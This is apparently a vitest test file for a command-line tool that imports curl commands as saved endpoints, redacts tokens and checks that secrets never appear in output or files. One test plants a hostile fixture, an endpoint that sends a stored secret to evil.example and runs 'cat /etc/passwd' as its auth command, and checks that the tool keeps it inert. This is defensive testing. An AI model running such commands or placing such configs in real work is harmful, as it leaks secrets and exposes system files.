import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { commandLine } from '../helpers/cli-process.ts';

const files = commandLine<Record<string, unknown>>('endpoints');
const run = async (...args: string[]) => {
  const running = files.heartline(...args);
  const code = await running.ended;
  return { code, out: running.out, err: running.err, lines: args.includes('--json') ? running.lines() : [] };
};
const SECRET = 'planted-S3CR3T-1';

describe('heartline endpoints', { timeout: 180_000 }, () => {
  it('keeps a curl command, lists, shows and exports it, and says no secret anywhere', async () => {
    const imported = await run(
      'import',
      `curl -N 'https://{var.host}/orders?token=${SECRET}' -H 'Accept: text/event-stream' -H 'Authorization: Bearer ${SECRET}-2' -m 30`.replace('{var.host}', '$HOST').replaceAll("'", '"'),
      '--folder', 'Shop', '--name', 'Orders', '--json',
    ); // prettier-ignore
    expect(imported.code).toBe(0);
    expect(imported.lines).toMatchObject([
      { type: 'imported', name: 'Orders', folder: 'Shop', method: 'sse', urls: { sse: 'https://{var.HOST}/orders?token={secret.orders.token}' }, secrets: ['orders.token', 'orders.token-2'] },
    ]); // prettier-ignore
    const left = (imported.lines[0]!['leftOut'] as { part: string }[]).map(({ part }) => part);
    expect(left).toEqual(['-m 30', '$HOST']);

    writeFileSync(join(files.dir, 'staging.env'), 'HOST=s.example\n');
    const list = await run('list', '--env', join(files.dir, 'staging.env'), '--json');
    expect(list.lines).toMatchObject([
      { name: 'Orders', folder: 'Shop', methods: ['sse'], missing: [], urls: { sse: expect.stringContaining('https://s.example/') as string } },
    ]); // prettier-ignore
    const show = await run('show', 'Orders');
    expect(show.out).toMatch(/name: Orders[\s\S]*curl -N/);
    const exported = await run('export');
    expect(exported.out).toContain('{secret.orders.token}');
    for (const { out, err } of [imported, list, show, exported]) expect(out + err).not.toContain(SECRET);
    for (const name of readdirSync(files.dir))
      expect(readFileSync(join(files.dir, name), 'utf8')).not.toContain(SECRET);
    expect((await run('show', 'orders')).err).toMatch(/Did you mean “Orders”/);
    // what was exported is known here, and lacks its secrets elsewhere
    writeFileSync(join(files.dir, 'exported.yaml'), exported.out);
    expect((await run('import', join(files.dir, 'exported.yaml'), '--json')).lines).toMatchObject([{ known: true }]);
  });

  it('a file that names a secret that is kept here does not get it', async () => {
    const text = 'endpoints:\n  - name: Thief\n    urls: { sse: "https://evil.example/?k={secret.orders.token}" }\n    auth: { type: token-command, command: "cat /etc/passwd" }\n'; // prettier-ignore
    writeFileSync(join(files.dir, 'thief.yaml'), text);
    const { lines, code } = await run('import', join(files.dir, 'thief.yaml'), '--json');
    expect(code).toBe(0);
    expect(lines).toMatchObject([{ name: 'Thief', command: 'inert', missing: ['orders.token-3'] }]);
    expect(await run('list', '--json')).toMatchObject({ lines: [{}, { name: 'Thief', command: 'inert' }] });
    expect((await run('confirm', 'Thief')).out).toContain('cat /etc/passwd');
    expect(await run('list', '--json')).toMatchObject({ lines: [{}, { name: 'Thief', command: 'confirmed' }] });
    expect((await run('confirm', 'Orders')).code).toBe(2);
    expect((await run('remove', 'Thief')).code).toBe(0);
  });

  it.each<[string[], RegExp]>([
    [['import', `curl 'https://x`], /the part 'https:\/\/x: .*never closed/],
    [['import', 'curl --frob https://x.example'], /the part --frob: /],
    [['import', 'nowhere.har'], /There is no file nowhere\.har/],
    [['show', 'nobody'], /nobody: No endpoint is called so/],
    [['list', '--env', 'nowhere.env'], /--env: There is no file/],
    [['import', 'curl https://x.example', '--entry', '2'], /--entry: It is for HAR files/],
  ])('%j: bad use says what is wrong, exit 2', async (args, message) => {
    const { code, err } = await run(...args);
    expect(err).toMatch(message);
    expect(code).toBe(2);
  });
});
